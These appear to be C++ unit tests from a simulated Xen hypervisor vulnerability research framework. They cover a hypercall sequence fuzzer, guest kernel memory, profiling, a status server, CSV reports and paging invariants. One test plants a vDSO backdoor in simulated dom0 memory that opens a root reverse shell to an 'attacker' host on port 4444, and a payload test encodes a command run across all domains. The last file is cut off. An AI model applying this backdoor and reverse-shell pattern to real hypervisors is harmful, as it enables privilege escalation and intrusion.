TEST(SequenceFuzzer, FindsNovelSurvivorOnXen46) {
  // The acceptance claim: at a fixed seed on 4.6 the guided fuzzer
  // discovers (and minimizes) at least one erroneous state the four XSA
  // scenarios do not cover.
  const SeqFuzzStats stats = run_sequence_fuzzer(small_config(7, 60));
  EXPECT_GT(stats.novel_survivors(), 0u);
}

TEST(SequenceFuzzer, GuidedBeatsBlindAtEqualBudget) {
  SeqFuzzConfig guided = small_config(1, 400);
  SeqFuzzConfig blind = guided;
  guided.minimize = false;  // minimization spends execs, not coverage
  blind.minimize = false;
  blind.guided = false;
  const SeqFuzzStats g = run_sequence_fuzzer(guided);
  const SeqFuzzStats b = run_sequence_fuzzer(blind);
  EXPECT_GT(g.coverage_points, b.coverage_points);
}

TEST(CoverageMapShape, RecordReportsFirstSightingOnly) {
  CoverageMap map;
  EXPECT_EQ(map.points(), 0u);
  EXPECT_TRUE(map.record(0, hv::PageType::Writable,
                         hv::ValidationBranch::TypeWritableOk));
  EXPECT_FALSE(map.record(0, hv::PageType::Writable,
                          hv::ValidationBranch::TypeWritableOk));
  EXPECT_EQ(map.points(), 1u);
  EXPECT_TRUE(map.covered(0, hv::PageType::Writable,
                          hv::ValidationBranch::TypeWritableOk));
  EXPECT_FALSE(map.covered(1, hv::PageType::Writable,
                           hv::ValidationBranch::TypeWritableOk));
}

}  // namespace
}  // namespace ii::core
