// Guest kernel: boot fingerprints, memory helpers, hypercall wrappers, the
// vDSO backdoor trigger, and the platform glue.
#include <gtest/gtest.h>

#include <cstring>

#include "guest/platform.hpp"

namespace ii::guest {
namespace {

PlatformConfig small_config() {
  PlatformConfig pc{};
  pc.machine_frames = 8192;
  pc.dom0_pages = 128;
  pc.guest_pages = 64;
  return pc;
}

class KernelFixture : public ::testing::Test {
 protected:
  KernelFixture() : platform{small_config()} {}
  VirtualPlatform platform;
};

TEST_F(KernelFixture, StartInfoFingerprintInMemory) {
  GuestKernel& g = platform.guest(0);
  const auto mfn = g.pfn_to_mfn(kStartInfoPfn);
  ASSERT_TRUE(mfn.has_value());
  const auto bytes = platform.memory().frame_bytes(*mfn);
  EXPECT_EQ(std::memcmp(bytes.data(), StartInfoLayout::kMagic,
                        std::strlen(StartInfoLayout::kMagic)),
            0);
  std::uint16_t domid = 0xFFFF;
  std::memcpy(&domid, bytes.data() + StartInfoLayout::kDomIdOffset,
              sizeof domid);
  EXPECT_EQ(domid, g.id());
  std::uint64_t nr = 0;
  std::memcpy(&nr, bytes.data() + StartInfoLayout::kNrPagesOffset, sizeof nr);
  EXPECT_EQ(nr, g.nr_pages());
}

TEST_F(KernelFixture, VdsoFingerprintInMemory) {
  GuestKernel& dom0 = platform.dom0();
  const auto mfn = dom0.pfn_to_mfn(kVdsoPfn);
  const auto bytes = platform.memory().frame_bytes(*mfn);
  EXPECT_EQ(std::memcmp(bytes.data(), VdsoLayout::kElfMagic, 4), 0);
  EXPECT_EQ(std::memcmp(bytes.data() + VdsoLayout::kSignatureOffset,
                        VdsoLayout::kSignature,
                        std::strlen(VdsoLayout::kSignature)),
            0);
}

TEST_F(KernelFixture, ReadWriteVirtGoThroughMmu) {
  GuestKernel& g = platform.guest(0);
  const auto pfn = g.alloc_pfn();
  ASSERT_TRUE(pfn.has_value());
  ASSERT_TRUE(g.write_u64(g.pfn_va(*pfn, 64), 0xABCDEF));
  EXPECT_EQ(g.read_u64(g.pfn_va(*pfn, 64)), 0xABCDEF);
  // Unmapped VA fails instead of crashing.
  EXPECT_FALSE(g.read_u64(sim::Vaddr{0x400000}).has_value());
  EXPECT_FALSE(g.write_u64(sim::Vaddr{0x400000}, 1));
}

TEST_F(KernelFixture, AllocPfnStopsAtTableRegion) {
  GuestKernel& g = platform.guest(0);
  std::uint64_t count = 0;
  while (g.alloc_pfn().has_value()) ++count;
  // Pool = pages 2 .. first_table_pfn-1.
  EXPECT_EQ(count, g.first_table_pfn().raw() - kFirstFreePfn.raw());
}

TEST_F(KernelFixture, TableGeometryMatchesBuilder) {
  GuestKernel& g = platform.guest(0);
  EXPECT_EQ(g.nr_pages(), 64u);
  EXPECT_EQ(g.l1_table_count(), 1u);
  EXPECT_EQ(g.first_table_pfn().raw(), 60u);
  EXPECT_EQ(g.l4_mfn(), platform.hv().domain(g.id()).cr3());
  EXPECT_EQ(g.l1_mfn(0), *g.pfn_to_mfn(sim::Pfn{60}));
  EXPECT_EQ(g.l2_mfn(), *g.pfn_to_mfn(sim::Pfn{61}));
  // The L1 slot of pfn 7 lives in the L1 table at index 7.
  EXPECT_EQ(g.l1_slot_paddr(sim::Pfn{7}).raw(),
            sim::mfn_to_paddr(g.l1_mfn(0)).raw() + 7 * 8);
}

TEST_F(KernelFixture, UnmapPfnMakesVaFault) {
  GuestKernel& g = platform.guest(0);
  const auto pfn = g.alloc_pfn();
  ASSERT_TRUE(g.write_u64(g.pfn_va(*pfn), 7));
  ASSERT_EQ(g.unmap_pfn(*pfn), hv::kOk);
  EXPECT_FALSE(g.read_u64(g.pfn_va(*pfn)).has_value());
}

TEST_F(KernelFixture, PrintkMirrorsToXenConsole) {
  GuestKernel& g = platform.guest(0);
  g.printk("exploit step one");
  ASSERT_FALSE(g.dmesg().empty());
  EXPECT_NE(g.dmesg().back().find("exploit step one"), std::string::npos);
  bool on_console = false;
  for (const auto& line : platform.hv().console()) {
    if (line.find("exploit step one") != std::string::npos) on_console = true;
  }
  EXPECT_TRUE(on_console);
}

TEST_F(KernelFixture, VdsoWithoutBackdoorDoesNothing) {
  platform.dom0().invoke_vdso(0);
  EXPECT_TRUE(platform.dom0().shell_sessions().empty());
}

TEST_F(KernelFixture, VdsoBackdoorOpensRootShell) {
  platform.attacker().listen(4444);
  // Patch the backdoor bytes directly (the use cases do it via intrusion).
  GuestKernel& dom0 = platform.dom0();
  VdsoBackdoor bd{};
  bd.magic = VdsoLayout::kBackdoorMagic;
  std::snprintf(bd.host, sizeof bd.host, "attacker");
  bd.port = 4444;
  const auto mfn = dom0.pfn_to_mfn(kVdsoPfn);
  platform.memory().write(
      sim::mfn_to_paddr(*mfn) + VdsoLayout::kBackdoorOffset,
      {reinterpret_cast<const std::uint8_t*>(&bd), sizeof bd});

  dom0.invoke_vdso(1000);
  ASSERT_EQ(dom0.shell_sessions().size(), 1u);
  const auto conns = platform.attacker().accepted(4444);
  ASSERT_EQ(conns.size(), 1u);
  conns[0]->send(net::Endpoint::Client, "whoami && hostname");
  platform.pump();
  EXPECT_EQ(conns[0]->poll(net::Endpoint::Client), "root\nxen-dom0");
}

TEST_F(KernelFixture, VdsoBackdoorToDeadListenerFailsQuietly) {
  GuestKernel& dom0 = platform.dom0();
  VdsoBackdoor bd{};
  bd.magic = VdsoLayout::kBackdoorMagic;
  std::snprintf(bd.host, sizeof bd.host, "attacker");
  bd.port = 4445;  // nobody listening
  const auto mfn = dom0.pfn_to_mfn(kVdsoPfn);
  platform.memory().write(
      sim::mfn_to_paddr(*mfn) + VdsoLayout::kBackdoorOffset,
      {reinterpret_cast<const std::uint8_t*>(&bd), sizeof bd});
  dom0.invoke_vdso(0);
  EXPECT_TRUE(dom0.shell_sessions().empty());
}

TEST_F(KernelFixture, PlatformShape) {
  EXPECT_EQ(platform.kernels().size(), 3u);  // dom0 + 2 guests
  EXPECT_TRUE(platform.hv().injector_enabled());
  EXPECT_EQ(platform.kernel_of(platform.dom0().id()), &platform.dom0());
  EXPECT_EQ(platform.kernel_of(hv::DomainId{77}), nullptr);
  EXPECT_NE(platform.network().find_host("guest01"), nullptr);
  EXPECT_NE(platform.network().find_host("attacker"), nullptr);
}

TEST(Payload, EncodeDecodeRoundTrip) {
  Payload p{};
  p.op = PayloadOp::RunCommandAllDomains;
  p.command = "echo hi > /tmp/x";
  std::vector<std::uint8_t> buf(256);
  const std::size_t n = p.encode(buf);
  EXPECT_GT(n, p.command.size());
  const auto back = Payload::decode({buf.data(), n});
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->command, p.command);
  EXPECT_EQ(back->op, p.op);
}

TEST(Payload, DecodeRejectsGarbage) {
  std::vector<std::uint8_t> buf(64, 0xAB);
  EXPECT_FALSE(Payload::decode(buf).has_value());
  EXPECT_FALSE(Payload::decode({buf.data(), 4}).has_value());
}

TEST(Payload, EncodeRejectsOverflow) {
  Payload p{};
  p.command.assign(1000, 'x');
  std::vector<std::uint8_t> buf(64);
  EXPECT_THROW((void)p.encode(buf), std::length_error);
}

TEST(Payload, DecodeRejectsTruncatedCommand) {
  Payload p{};
  p.command = "0123456789";
  std::vector<std::uint8_t> buf(256);
  const std::size_t n = p.encode(buf);
  EXPECT_FALSE(Payload::decode({buf.data(), n - 4}).has_value());
}

}  // namespace
}  // namespace ii::guest
