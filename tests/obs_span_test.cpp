// Deterministic span profiler: tree aggregation, Det/Sched separation,
// per-worker merge, renders, and the zero-instrumentation null path.
#include <gtest/gtest.h>

#include <thread>

#include "obs/span.hpp"
#include "obs/trace.hpp"

namespace ii::obs {
namespace {

TEST(SpanProfiler, NestedScopesBuildATree) {
  SpanProfiler prof;
  {
    ScopedSpan cell{&prof, kSpanCell};
    {
      ScopedSpan inject{&prof, kSpanInject};
      inject.add_steps(7);
    }
    { ScopedSpan monitor{&prof, kSpanMonitor}; }
    { ScopedSpan inject{&prof, kSpanInject}; }
  }
  const SpanNode& root = prof.root();
  ASSERT_EQ(root.children.size(), 1u);
  const SpanNode& cell = *root.children.at("cell");
  EXPECT_EQ(cell.count, 1u);
  ASSERT_EQ(cell.children.size(), 2u);
  EXPECT_EQ(cell.children.at("inject")->count, 2u);
  EXPECT_EQ(cell.children.at("inject")->steps, 7u);
  EXPECT_EQ(cell.children.at("monitor")->count, 1u);
  EXPECT_EQ(cell.total_steps(), 7u);
}

TEST(SpanProfiler, AddRecordsAtAbsolutePathWithoutMovingCursor) {
  SpanProfiler prof;
  ScopedSpan cell{&prof, kSpanCell};
  prof.add({kSpanCheck, "d1", kSpanExpand}, 1, 36);
  EXPECT_EQ(prof.current_path(), "cell");
  const SpanNode& expand =
      *prof.root().children.at("check")->children.at("d1")->children.at(
          "expand");
  EXPECT_EQ(expand.count, 1u);
  EXPECT_EQ(expand.steps, 36u);
}

TEST(SpanProfiler, StepSourceCreditsSinkDeltaEvenOnThrow) {
  SpanProfiler prof;
  TraceSink sink{16, 0};
  sink.emit(TraceCategory::Injection, 1);  // pre-span noise, not credited
  try {
    ScopedSpan span{&prof, kSpanInject, SpanKind::Det, &sink};
    sink.emit(TraceCategory::Injection, 1);
    sink.emit(TraceCategory::Injection, 1);
    throw std::runtime_error{"attempt failed"};
  } catch (const std::runtime_error&) {
  }
  EXPECT_EQ(prof.root().children.at("inject")->steps, 2u);
}

TEST(SpanProfiler, SchedExcludedFromDeterministicTotals) {
  SpanProfiler prof;
  prof.add({kSpanCheck, "d1", kSpanExpand}, 1, 36);
  prof.add({kSpanCheck, "d1", kSpanProduce}, 1, 999, SpanKind::Sched);
  const SpanNode& check = *prof.root().children.at("check");
  // Det roll-up skips the Sched produce subtree; the full roll-up keeps it.
  EXPECT_EQ(check.total_steps(false), 36u);
  EXPECT_EQ(check.total_steps(true), 36u + 999u);
  // A Sched leaf must not taint its Det ancestors out of the det render.
  EXPECT_EQ(check.kind, SpanKind::Det);
  EXPECT_EQ(check.children.at("d1")->kind, SpanKind::Det);
  EXPECT_EQ(check.children.at("d1")->children.at("produce")->kind,
            SpanKind::Sched);
}

TEST(SpanProfiler, SchedKindIsStickyPerNode) {
  SpanProfiler prof;
  prof.add({kSpanAdmit}, 1, 1, SpanKind::Sched);
  prof.add({kSpanAdmit}, 1, 1, SpanKind::Det);  // same node, Det site
  EXPECT_EQ(prof.root().children.at("admit")->kind, SpanKind::Sched);
}

TEST(SpanProfiler, MergeIsOrderIndependent) {
  const auto fill_a = [](SpanProfiler& p) {
    p.add({kSpanCell, kSpanInject}, 1, 10);
    p.add({kSpanCell, kSpanRestore}, 1, 3);
  };
  const auto fill_b = [](SpanProfiler& p) {
    p.add({kSpanCell, kSpanInject}, 2, 20);
    p.add({kSpanCell, kSpanRecover}, 1, 5);
  };
  SpanProfiler ab;
  SpanProfiler ba;
  {
    SpanProfiler a;
    SpanProfiler b;
    fill_a(a);
    fill_b(b);
    ab.merge(a);
    ab.merge(b);
    ba.merge(b);
    ba.merge(a);
  }
  EXPECT_EQ(render_profile(ab), render_profile(ba));
  const SpanNode& cell = *ab.root().children.at("cell");
  EXPECT_EQ(cell.children.at("inject")->count, 3u);
  EXPECT_EQ(cell.children.at("inject")->steps, 30u);
  EXPECT_EQ(cell.total_steps(), 38u);
}

TEST(SpanProfiler, DeterministicRenderOmitsWallAndSched) {
  SpanProfiler prof;
  {
    ScopedSpan cell{&prof, kSpanCell};
    cell.add_steps(4);
    std::this_thread::sleep_for(std::chrono::milliseconds{1});
  }
  prof.add({kSpanProduce}, 1, 9, SpanKind::Sched);
  const std::string det = render_profile(prof, false);
  EXPECT_NE(det.find("cell"), std::string::npos);
  EXPECT_EQ(det.find("produce"), std::string::npos);
  EXPECT_EQ(det.find("wall"), std::string::npos);
  const std::string wall = render_profile(prof, true);
  EXPECT_NE(wall.find("produce *"), std::string::npos);
  EXPECT_NE(wall.find("wall us"), std::string::npos);
  // The slept span accumulated real wall time, visible only in wall mode.
  EXPECT_GE(prof.root().children.at("cell")->wall_ns, 1000000u);
}

TEST(SpanProfiler, RenderIsIndependentOfInsertionOrder) {
  SpanProfiler first;
  first.add({kSpanCell, kSpanInject}, 1, 1);
  first.add({kSpanCell, kSpanAcquire}, 1, 1);
  SpanProfiler second;
  second.add({kSpanCell, kSpanAcquire}, 1, 1);
  second.add({kSpanCell, kSpanInject}, 1, 1);
  EXPECT_EQ(render_profile(first), render_profile(second));
}

TEST(SpanProfiler, ChromeTraceRecordsCompleteEvents) {
  SpanProfiler prof;
  prof.set_record_events(true);
  prof.set_tid(3);
  {
    ScopedSpan cell{&prof, kSpanCell};
    ScopedSpan inject{&prof, kSpanInject};
    inject.add_steps(5);
  }
  ASSERT_EQ(prof.events().size(), 2u);  // inject closes before cell
  EXPECT_EQ(prof.events()[0].path, "cell/inject");
  EXPECT_EQ(prof.events()[1].path, "cell");
  EXPECT_EQ(prof.events()[0].tid, 3u);
  const std::string json = chrome_trace_json(prof);
  EXPECT_NE(json.find("\"name\":\"cell/inject\""), std::string::npos);
  EXPECT_NE(json.find("\"ph\":\"X\""), std::string::npos);
  EXPECT_NE(json.find("\"tid\":3"), std::string::npos);
  EXPECT_NE(json.find("\"args\":{\"steps\":5}"), std::string::npos);
  // Events off (the default): the export degrades to an empty array.
  SpanProfiler quiet;
  { ScopedSpan cell{&quiet, kSpanCell}; }
  EXPECT_EQ(chrome_trace_json(quiet), "{\"traceEvents\":[]}");
}

TEST(ScopedSpan, AbsolutePathEventInsideAnOpenSpanIsNotPrefixed) {
  // The checker's main profiler opens "check" and then records absolute
  // {check, d1, produce} spans inside it; the event path must be the
  // node's root path, not the cursor stack ("check/check/d1/produce").
  SpanProfiler prof;
  prof.set_record_events(true);
  {
    ScopedSpan check{&prof, kSpanCheck};
    ScopedSpan produce{&prof, {kSpanCheck, "d1", kSpanProduce},
                        SpanKind::Sched};
  }
  ASSERT_EQ(prof.events().size(), 2u);
  EXPECT_EQ(prof.events()[0].path, "check/d1/produce");
  EXPECT_EQ(prof.events()[1].path, "check");
}

TEST(ScopedSpan, NullProfilerIsANoOp) {
  ScopedSpan span{nullptr, kSpanCell};
  span.add_steps(100);
  span.end();  // must not crash
  ScopedSpan path_span{nullptr, {kSpanCheck, "d1", kSpanExpand}};
  SUCCEED();
}

TEST(ScopedSpan, EndIsIdempotentAndClosesEarly) {
  SpanProfiler prof;
  ScopedSpan outer{&prof, kSpanCheck};
  {
    ScopedSpan inner{&prof, kSpanProduce, SpanKind::Sched};
    inner.end();
    EXPECT_EQ(prof.current_path(), "check");  // closed before scope exit
    inner.end();  // second end: no double-exit
    inner.add_steps(9);  // after end: dropped, not misattributed
  }
  EXPECT_EQ(prof.root().children.at("check")->children.at("produce")->steps,
            0u);
  EXPECT_EQ(prof.current_path(), "check");
}

TEST(ScopedSpan, PathConstructorUnwindsAllLevels) {
  SpanProfiler prof;
  {
    ScopedSpan span{&prof, {kSpanCheck, "d2", kSpanAudit}};
    EXPECT_EQ(prof.current_path(), "check/d2/audit");
  }
  EXPECT_EQ(prof.current_path(), "");
  // Only the leaf's count increments; intermediates are containers.
  EXPECT_EQ(prof.root().children.at("check")->count, 0u);
  EXPECT_EQ(prof.root().children.at("check")->children.at("d2")->count, 0u);
  EXPECT_EQ(prof.root()
                .children.at("check")
                ->children.at("d2")
                ->children.at("audit")
                ->count,
            1u);
}

TEST(SpanProfiler, ResetRequiresClosedCursorAndClearsState) {
  SpanProfiler prof;
  prof.add({kSpanCell}, 1, 1);
  prof.enter(kSpanCell);
  EXPECT_THROW(prof.reset(), std::logic_error);
  prof.exit();
  prof.reset();
  EXPECT_TRUE(prof.root().children.empty());
}

TEST(SpanNames, EveryRegisteredNameHasADescription) {
  const auto names = registered_span_names();
  EXPECT_GE(names.size(), 20u);
  for (const std::string_view name : names) {
    EXPECT_FALSE(span_name_description(name).empty())
        << "span name without a render-name table row: " << name;
  }
  EXPECT_TRUE(span_name_description("d1").empty());  // dynamic segment
}

}  // namespace
}  // namespace ii::obs
