// Status endpoint: JSON/Prometheus payloads, the sim-transport server, and
// the real-socket transport.
#include <gtest/gtest.h>

#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <regex>
#include <sstream>
#include <string>
#include <vector>

#include "core/chaos.hpp"
#include "net/status_server.hpp"
#include "obs/metrics.hpp"
#include "obs/status.hpp"

namespace ii {
namespace {

/// Drain every line queued towards the client into one blob.
std::string client_drain(net::Connection& conn) {
  std::string out;
  while (const auto line = conn.poll(net::Endpoint::Client)) {
    out += *line;
    out += '\n';
  }
  return out;
}

// StatusBoard holds atomics, so tests fill one in place.
void make_busy(obs::StatusBoard& board) {
  board.campaign_begin(48, 2);
  board.cell_done(0, false);
  board.cell_done(1, true);
  board.cell_done(1, false);
  board.add_retry();
  board.add_quarantine();
  board.checker_begin();
  board.checker_depth(2, 13);
  board.checker_progress(120, 4);
}

TEST(StatusJson, ReflectsBoardCounters) {
  obs::StatusBoard board;
  make_busy(board);
  const std::string json = obs::render_status_json(board.snapshot());
  EXPECT_NE(json.find("\"cells_total\":48"), std::string::npos);
  EXPECT_NE(json.find("\"cells_done\":3"), std::string::npos);
  EXPECT_NE(json.find("\"cells_failed\":1"), std::string::npos);
  EXPECT_NE(json.find("\"retries\":1"), std::string::npos);
  EXPECT_NE(json.find("\"worker\":1,\"cells_done\":2"), std::string::npos);
  EXPECT_NE(json.find("\"depth\":2"), std::string::npos);
  EXPECT_NE(json.find("\"frontier\":13"), std::string::npos);
  EXPECT_NE(json.find("\"states_explored\":120"), std::string::npos);
}

TEST(Prometheus, ExpositionFormatIsValid) {
  obs::StatusBoard board;
  make_busy(board);
  obs::MetricsRegistry reg;
  reg.counter("trace.hypercall_enter").inc(7);
  reg.histogram("cell.wall_us", {10, 100}).record(42);
  const obs::MetricsSnapshot metrics = reg.snapshot();
  const std::string text = obs::render_prometheus(board.snapshot(), &metrics);

  // Every non-comment line must match the exposition grammar:
  //   name{labels}? value
  const std::regex line_re(
      R"(^[a-zA-Z_:][a-zA-Z0-9_:]*(\{[a-zA-Z0-9_]+="[^"]*"(,[a-zA-Z0-9_]+="[^"]*")*\})? [0-9][0-9.e+-]*$)");
  std::istringstream is{text};
  std::string line;
  std::size_t samples = 0;
  while (std::getline(is, line)) {
    if (line.empty() || line[0] == '#') continue;
    EXPECT_TRUE(std::regex_match(line, line_re)) << "bad line: " << line;
    ++samples;
  }
  EXPECT_GT(samples, 10u);

  // Every metric has HELP and TYPE headers before its first sample.
  EXPECT_LT(text.find("# HELP ii_campaign_cells_done"),
            text.find("\nii_campaign_cells_done"));
  EXPECT_NE(text.find("# TYPE ii_campaign_retries_total counter"),
            std::string::npos);

  // Registry counters are sanitized (dots → underscores) and exported.
  EXPECT_NE(text.find("ii_trace_hypercall_enter 7"), std::string::npos);

  // Histograms: cumulative buckets ending in +Inf, plus _sum and _count.
  EXPECT_NE(text.find("ii_cell_wall_us_bucket{le=\"10\"} 0"),
            std::string::npos);
  EXPECT_NE(text.find("ii_cell_wall_us_bucket{le=\"100\"} 1"),
            std::string::npos);
  EXPECT_NE(text.find("ii_cell_wall_us_bucket{le=\"+Inf\"} 1"),
            std::string::npos);
  EXPECT_NE(text.find("ii_cell_wall_us_sum 42"), std::string::npos);
  EXPECT_NE(text.find("ii_cell_wall_us_count 1"), std::string::npos);
}

TEST(StatusServer, ServesSimClientsOnePerConnection) {
  net::Network net;
  obs::StatusBoard board;
  board.campaign_begin(6, 1);
  net::StatusServer server{net, "telemetry", 9090, &board};

  net.add_host("operator");
  const auto conn = net.connect("operator", "telemetry", 9090);
  ASSERT_NE(conn, nullptr);
  conn->send(net::Endpoint::Client, "GET /status HTTP/1.1");
  EXPECT_EQ(server.pump(), 1u);
  const std::string response = client_drain(*conn);
  EXPECT_NE(response.find("HTTP/1.0 200 OK"), std::string::npos);
  EXPECT_NE(response.find("Content-Type: application/json"),
            std::string::npos);
  EXPECT_NE(response.find("\"cells_total\":6"), std::string::npos);
  EXPECT_TRUE(conn->closed());  // one exchange per connection
  EXPECT_EQ(server.pump(), 0u);  // nothing pending

  // Bare-path request form and 404 handling.
  const auto conn2 = net.connect("operator", "telemetry", 9090);
  ASSERT_NE(conn2, nullptr);
  conn2->send(net::Endpoint::Client, "/nope");
  EXPECT_EQ(server.pump(), 1u);
  EXPECT_NE(client_drain(*conn2).find("HTTP/1.0 404"), std::string::npos);
}

TEST(StatusServer, SurvivesHostResetAndServesMetrics) {
  net::Network net;
  obs::StatusBoard board;
  net::StatusServer server{net, "telemetry", 9090, &board, [] {
    obs::MetricsRegistry reg;
    reg.counter("cells").inc(5);
    return reg.snapshot();
  }};
  net.reset();  // warm-platform reuse drops all listeners
  EXPECT_EQ(server.pump(), 0u);  // pump re-arms the listener

  net.add_host("prom");
  const auto conn = net.connect("prom", "telemetry", 9090);
  ASSERT_NE(conn, nullptr);
  conn->send(net::Endpoint::Client, "GET /metrics HTTP/1.0");
  EXPECT_EQ(server.pump(), 1u);
  const std::string response = client_drain(*conn);
  EXPECT_NE(response.find("text/plain; version=0.0.4"), std::string::npos);
  EXPECT_NE(response.find("ii_cells 5"), std::string::npos);
}

/// Raw-socket round trip against the TCP transport (no curl dependency).
std::string tcp_get(std::uint16_t port, const std::string& request) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return {};
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof addr) <
      0) {
    ::close(fd);
    return {};
  }
  const std::string req = request + "\r\n\r\n";
  (void)::write(fd, req.data(), req.size());
  std::string response;
  char buf[4096];
  ssize_t n = 0;
  while ((n = ::read(fd, buf, sizeof buf)) > 0) {
    response.append(buf, static_cast<std::size_t>(n));
  }
  ::close(fd);
  return response;
}

TEST(TcpStatusServer, ServesOverRealSockets) {
  obs::StatusBoard board;
  board.campaign_begin(12, 3);
  board.cell_done(2, false);
  net::TcpStatusServer server{0 /*ephemeral*/, &board};
  ASSERT_TRUE(server.running());
  ASSERT_NE(server.port(), 0);

  const std::string status = tcp_get(server.port(), "GET /status HTTP/1.1");
  EXPECT_NE(status.find("HTTP/1.0 200 OK"), std::string::npos);
  EXPECT_NE(status.find("\"cells_total\":12"), std::string::npos);
  EXPECT_NE(status.find("\"worker\":2,\"cells_done\":1"), std::string::npos);

  const std::string metrics = tcp_get(server.port(), "/metrics");
  EXPECT_NE(metrics.find("ii_campaign_cells_total 12"), std::string::npos);

  const std::string missing = tcp_get(server.port(), "GET /x HTTP/1.1");
  EXPECT_NE(missing.find("HTTP/1.0 404"), std::string::npos);
}

TEST(TcpStatusServer, SendFailureDegradesGracefully) {
  obs::StatusBoard board;
  board.campaign_begin(6, 1);
  net::TcpStatusServer server{0 /*ephemeral*/, &board};
  ASSERT_TRUE(server.running());

  // The first response send fails (a poller that vanished mid-reply);
  // the serve loop must close that client, count the error, and keep
  // serving the next one — telemetry degrades, the endpoint survives.
  core::ChaosEngine engine{37,
                           core::parse_chaos_plan("status.send_fail@1")};
  const core::ChaosScope scope{engine};

  const std::string dropped = tcp_get(server.port(), "GET /status HTTP/1.1");
  EXPECT_TRUE(dropped.empty());
  const std::string answered = tcp_get(server.port(), "GET /status HTTP/1.1");
  EXPECT_NE(answered.find("HTTP/1.0 200 OK"), std::string::npos);
  EXPECT_EQ(server.send_errors(), 1u);
  EXPECT_EQ(server.served(), 1u);
}

}  // namespace
}  // namespace ii
