// CSV export and the kernel-oops observable.
#include <gtest/gtest.h>

#include "core/report.hpp"
#include "guest/platform.hpp"

namespace ii {
namespace {

TEST(CsvExport, HeaderAndRows) {
  std::vector<core::CellResult> results;
  core::CellResult cell{};
  cell.use_case = "XSA-212-crash";
  cell.version = hv::kXen413;
  cell.mode = core::Mode::Injection;
  cell.outcome.completed = true;
  cell.outcome.rc = 0;
  cell.err_state = true;
  cell.violation = true;
  cell.wall_us = 1234;
  cell.hypercalls = 17;
  results.push_back(cell);
  cell.use_case = "XSA-182-test";
  cell.violation = false;
  cell.outcome.rc = hv::kEPERM;
  cell.wall_us = 56;
  cell.hypercalls = 0;
  results.push_back(cell);

  const std::string csv = core::render_csv(results);
  EXPECT_NE(csv.find("use_case,version,mode,completed,rc,err_state,"
                     "violation,handled,wall_us,hypercalls,attempts,"
                     "recovered,quarantined\n"),
            std::string::npos);
  EXPECT_NE(
      csv.find("XSA-212-crash,4.13,injection,1,0,1,1,0,1234,17,1,0,0\n"),
      std::string::npos);
  EXPECT_NE(csv.find("XSA-182-test,4.13,injection,1,-1,1,0,1,56,0,1,0,0\n"),
            std::string::npos);
  EXPECT_EQ(std::count(csv.begin(), csv.end(), '\n'), 3);
}

TEST(CsvExport, SupervisorColumnsRender) {
  core::CellResult cell{};
  cell.use_case = "XSA-148-priv";
  cell.version = hv::kXen48;
  cell.mode = core::Mode::Exploit;
  cell.attempts = 3;
  cell.recovered = true;
  cell.quarantined = true;
  const std::string csv = core::render_csv({cell});
  EXPECT_NE(csv.find("XSA-148-priv,4.8,exploit,0,0,0,0,0,0,0,3,1,1\n"),
            std::string::npos);
}

TEST(CsvExport, EmptyResultsGiveHeaderOnly) {
  const std::string csv = core::render_csv({});
  EXPECT_EQ(std::count(csv.begin(), csv.end(), '\n'), 1);
}

TEST(KernelOops, FaultingAccessesAreCountedAndLogged) {
  guest::PlatformConfig pc{};
  pc.machine_frames = 8192;
  pc.dom0_pages = 128;
  pc.guest_pages = 64;
  guest::VirtualPlatform p{pc};
  guest::GuestKernel& g = p.guest(0);
  EXPECT_EQ(g.oops_count(), 0u);

  std::array<std::uint8_t, 1> byte{};
  EXPECT_FALSE(g.read_virt(sim::Vaddr{0xDEAD000000ULL}, byte));
  EXPECT_FALSE(g.write_virt(sim::Vaddr{0xDEAD000000ULL}, byte));
  EXPECT_EQ(g.oops_count(), 2u);

  bool oops_line = false;
  for (const auto& line : g.dmesg()) {
    if (line.find("BUG: unable to handle page request at 000000dead000000")
        != std::string::npos) {
      oops_line = true;
    }
  }
  EXPECT_TRUE(oops_line);
}

TEST(KernelOops, RateLimited) {
  guest::PlatformConfig pc{};
  pc.machine_frames = 8192;
  pc.dom0_pages = 128;
  pc.guest_pages = 64;
  guest::VirtualPlatform p{pc};
  guest::GuestKernel& g = p.guest(0);
  std::array<std::uint8_t, 1> byte{};
  for (int i = 0; i < 50; ++i) {
    (void)g.read_virt(sim::Vaddr{0xDEAD000000ULL}, byte);
  }
  EXPECT_EQ(g.oops_count(), 50u);
  unsigned logged = 0;
  for (const auto& line : g.dmesg()) {
    if (line.find("BUG: unable to handle") != std::string::npos) ++logged;
  }
  EXPECT_EQ(logged, 8u);
}

}  // namespace
}  // namespace ii
