// Property-based tests: randomized hypercall streams against the paging
// invariants, and injector round-trip properties.
//
// The central safety property of direct paging — the one every use-case
// vulnerability breaks — is: *no sequence of accepted guest hypercalls on a
// fixed-version hypervisor leaves a page-table or hypervisor frame mapped
// guest-writable*. We fuzz the mmu_update/mmuext/exchange surface with
// seeded generators and audit after every batch.
#include <gtest/gtest.h>

#include <random>

#include "hv/audit.hpp"
#include "hv/hypervisor.hpp"

namespace ii::hv {
namespace {

constexpr std::uint64_t kPUW =
    sim::Pte::kPresent | sim::Pte::kUser | sim::Pte::kWritable;

struct Harness {
  explicit Harness(XenVersion version, unsigned seed)
      : mem{8192}, hv{mem, VersionPolicy::for_version(version)}, rng{seed} {
    dom0 = hv.create_domain("dom0", true, 64);
    guest = hv.create_domain("guest01", false, 128);
  }

  sim::Mfn guest_mfn(std::uint64_t pfn) {
    return *hv.domain(guest).p2m(sim::Pfn{pfn});
  }
  std::uint64_t rand_pfn() { return rng() % hv.domain(guest).nr_pages(); }

  /// One random mmu_update aimed at a random slot of a random own table
  /// with a random-ish entry — a mix of valid and invalid requests.
  long random_mmu_update() {
    const Domain& dom = hv.domain(guest);
    // Tables of a 128-page domain: pfn 124 (L1), 125 (L2), 126 (L3), 127 (L4).
    const std::uint64_t table_pfn = 124 + rng() % 4;
    const unsigned index = static_cast<unsigned>(rng() % sim::kPtEntries);
    const std::uint64_t target_pfn = rand_pfn();
    std::uint64_t flags = sim::Pte::kPresent;
    if (rng() % 2) flags |= sim::Pte::kWritable;
    if (rng() % 2) flags |= sim::Pte::kUser;
    if (rng() % 8 == 0) flags |= sim::Pte::kPageSize;
